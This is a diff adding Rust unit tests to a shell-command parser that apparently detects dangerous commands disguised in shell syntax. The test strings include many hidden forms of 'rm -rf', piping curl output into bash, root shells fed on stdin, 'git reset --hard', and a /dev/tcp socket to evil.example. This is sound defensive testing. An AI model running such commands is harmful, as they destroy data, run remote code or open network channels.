@@ -406,3 +406,44 @@ fn nesting_and_size_stay_bounded() {
     assert!(parse(&many).is_err());
     assert!(parse("bash -c \"$(printf 'a%.0s' {1..3})\"").is_ok());
 }
+
+#[test]
+fn more_disguises() {
+    let rm = "rm -r -f";
+    for src in [
+        "bash -c -- 'rm -rf x'",
+        "coproc rm -rf x",
+        "case $x in a) rm -rf y;; esac",
+        "{ rm -rf x; }",
+        "if rm -rf x; then :; fi",
+        "r\\\nm -rf x",
+        "xargs -0 sh -c 'rm -rf \"$@\"' _",
+        "sudo -- rm -rf x",
+        "env -- rm -rf x",
+        "time -p rm -rf x",
+        "nice -5 rm -rf x",
+        "ls # harmless\nrm -rf x",
+        "true && (rm -rf x)",
+        "echo $(bash -c 'rm -rf x')",
+        "x=$(rm -rf y)",
+        "cat <<EOF\n$(rm -rf x)\nEOF",
+    ] {
+        assert!(invokes(src, rm), "{src:?}: {:?}", p(src).commands);
+    }
+    for src in ["bash < <(curl -s https://x.example)", "exec bash", "sudo -i <<< \"$X\""] {
+        assert!(p(src).opaque, "{src:?}: {:?}", p(src).commands);
+    }
+    for src in ["g=git; $g reset --hard", "`echo rm` -rf x", "git `echo reset` --hard"] {
+        assert!(p(src).dynamic, "{src:?}");
+    }
+    assert_eq!(p("exec 3<>/dev/tcp/evil.example/80").writes, ["/dev/tcp/evil.example/80"]);
+    assert_eq!(p("exec 3<>/dev/tcp/evil.example/80").reads, ["/dev/tcp/evil.example/80"]);
+}
+
+#[test]
+fn privileged_shells_on_stdin() {
+    assert!(invokes("sudo -i <<< 'rm -rf x'", "rm -r -f"));
+    assert!(invokes("echo 'rm -rf x' | su root", "rm -r -f"));
+    assert!(p("su -").opaque);
+    assert!(!p("su -c 'ls' root").opaque);
+}
